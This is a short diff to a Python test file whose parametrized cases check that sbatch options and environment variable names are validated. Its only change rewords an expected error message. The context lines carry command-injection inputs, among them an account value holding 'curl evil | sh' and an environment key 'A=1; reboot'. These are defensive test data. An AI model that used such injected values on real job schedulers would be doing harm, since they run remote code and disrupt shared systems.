@@ -98,8 +98,8 @@ def test_options_are_one_word_each(runs: tuple[Run, ...], tmp_path: Path) -> Non
     [
         ({"sbatch": {"options": {"account": "a\ncurl evil | sh"}}}, "account"),
         ({"sbatch": {"options": {"account": "it's"}}}, "account"),
-        ({"sbatch": {"options": {"account=x --wrap": "y"}}}, "no long option"),
-        ({"sbatch": {"options": {"--account": "y"}}}, "no long option"),
+        ({"sbatch": {"options": {"account=x --wrap": "y"}}}, "not a long option"),
+        ({"sbatch": {"options": {"--account": "y"}}}, "not a long option"),
         ({"environment": {"A=1; reboot": "y"}}, "is not a variable such as"),
         ({"environment": {"1A": "y"}}, "is not a variable such as"),
     ],
